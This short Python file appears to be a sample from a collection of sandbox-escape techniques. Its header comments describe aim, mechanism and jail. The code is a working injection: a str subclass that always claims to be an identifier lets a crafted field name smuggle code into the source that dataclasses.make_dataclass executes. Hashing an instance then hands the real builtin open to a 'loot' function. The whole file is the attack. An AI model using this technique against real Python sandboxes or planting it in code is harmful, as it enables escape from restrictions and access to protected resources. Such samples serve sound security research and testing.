# aim: inject source text through a field name that claims to be an identifier
# mechanism: make_dataclass asks the name itself, and a str subclass may answer anything
# language: builtins
# reason: the library executes text unguarded, and with the real builtins
# jail: process
# plain: loot

import dataclasses


class Liar(str):
    def isidentifier(self):
        return True


Record = dataclasses.make_dataclass(
    "Record",
    [(Liar("x, self.sink(open)"), int)],
    namespace={"x": 0, "sink": lambda self, found: loot(found) or 0},
    init=False,
    repr=False,
    eq=False,
    unsafe_hash=True,
    match_args=False,
)
hash(Record())
